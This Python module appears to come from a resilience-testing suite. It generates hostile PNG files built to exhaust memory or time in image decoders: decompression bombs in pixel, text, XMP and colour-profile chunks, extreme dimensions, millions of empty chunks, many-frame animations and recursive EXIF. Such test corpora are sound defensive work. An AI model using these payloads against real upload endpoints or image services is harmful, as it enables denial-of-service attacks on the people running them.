"""PNG files that are made to take memory or time."""

from __future__ import annotations

import struct
import zlib

from hostile.attack_list import MIB, SIDE, attack


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def zeros(count: int) -> bytes:
    """So many zero bytes, packed, in no time: the same packed block is repeated."""
    packer = zlib.compressobj(9)
    head, block = (packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    if count < MIB:
        return zlib.compress(bytes(count))
    rest = packer.compress(bytes(count % MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = struct.pack(">I", count % 65521 << 16 | 1)  # Adler-32 of zeros
    return head + block * (count // MIB - 1) + rest + b"\3\0" + checksum


def png(width: int, height: int, bits: int, colour: int, *between: bytes, interlaced: int = 0, tail: bytes = b"") -> bytes:
    row = 1 + width * bits * {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour] // 8
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, interlaced))
    pixels = chunk(b"IDAT", zeros(row * height + 16 * interlaced * height))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(between) + pixels + tail + chunk(b"IEND", b"")


@attack
def png_of_3600_megapixels() -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


@attack
def png_with_transparency_everywhere() -> bytes:
    return png(SIDE, SIDE, 8, 6)


@attack
def png_of_16_bit_grey() -> bytes:
    return png(SIDE, SIDE, 16, 0)


@attack
def png_of_16_bit_colour_and_transparency() -> bytes:
    return png(SIDE, SIDE, 16, 6)


@attack
def png_interlaced() -> bytes:
    return png(SIDE, SIDE, 8, 6, interlaced=1)


@attack
def png_palette_with_transparency() -> bytes:
    return png(SIDE, SIDE, 8, 3, chunk(b"PLTE", bytes(768)), chunk(b"tRNS", bytes(range(256))))


@attack
def png_one_pixel_wide() -> bytes:
    return png(1, 40_000_000, 8, 2)


@attack
def png_one_pixel_high() -> bytes:
    return png(40_000_000, 1, 8, 6)


@attack
def png_turned() -> bytes:
    exif = b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06\0\0\0\0\0\0"
    return png(SIDE, SIDE, 8, 2, chunk(b"eXIf", exif))


@attack
def png_with_packed_texts() -> bytes:
    return png(8, 8, 8, 2, *[chunk(b"zTXt", b"Comment\0\0" + zeros(64 * MIB))] * 200)


@attack
def png_with_packed_xmp() -> bytes:
    return png(8, 8, 8, 2, *[chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + zeros(128 * MIB))] * 100)


@attack
def png_with_plain_texts() -> bytes:
    return png(8, 8, 8, 2, *[chunk(b"tEXt", b"Comment\0" + bytes(8 * MIB))] * 5)


@attack
def png_with_a_packed_profile() -> bytes:
    return png(8, 8, 8, 2, chunk(b"iCCP", b"profile\0\0" + zeros(1024 * MIB)))


@attack
def png_of_millions_of_chunks() -> bytes:
    return png(8, 8, 8, 2, chunk(b"prVt", b"") * 1_000_000)


@attack
def png_of_millions_of_empty_pixel_chunks() -> bytes:
    return png(8, 8, 8, 2, chunk(b"IDAT", b"") * 1_000_000)


@attack
def png_with_pixels_after_the_last() -> bytes:
    return png(8, 8, 8, 2, chunk(b"IDAT", zeros(4096 * MIB)))


@attack
def png_animation_of_many_frames() -> bytes:
    frame = struct.pack(">IIIIIHHBB", 0, 8, 8, 0, 0, 1, 1, 0, 0)
    more = b"".join(
        chunk(b"fcTL", struct.pack(">I", 2 * n - 1) + frame[4:])
        + chunk(b"fdAT", struct.pack(">I", 2 * n) + zlib.compress(bytes(8 * 25)))
        for n in range(1, 20_000)
    )
    return png(8, 8, 8, 2, chunk(b"acTL", struct.pack(">II", 100_000, 0)), chunk(b"fcTL", frame), tail=more)


@attack
def png_whose_exif_repeats_itself() -> bytes:
    entry = struct.pack("<HHII", 0x9286, 7, 60_000, 8)
    exif = b"II*\0\x08\0\0\0" + struct.pack("<H", 5_000) + entry * 5_000
    return png(8, 8, 8, 2, chunk(b"eXIf", exif))
